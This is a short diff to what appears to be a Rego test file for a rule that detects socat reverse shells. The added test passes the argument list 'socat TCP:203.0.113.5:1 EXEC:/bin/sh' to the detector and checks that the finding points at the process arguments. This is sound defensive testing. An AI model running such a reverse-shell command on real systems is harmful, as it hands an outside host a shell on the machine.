@@ -36,3 +36,7 @@ test_leaves_others[command] if {
 test_targets_are_a_parameter if {
 	count(found_with(testing.command("socat TCP-LISTEN:1 EXEC:/health.sh"), {"targets": ["health.sh"]})) == 1
 }
+
+test_points_at_the_arguments if {
+	testing.paths(found(testing.commanded(["socat", "TCP:203.0.113.5:1", "EXEC:/bin/sh"]))) == {"/event/process/args"}
+}
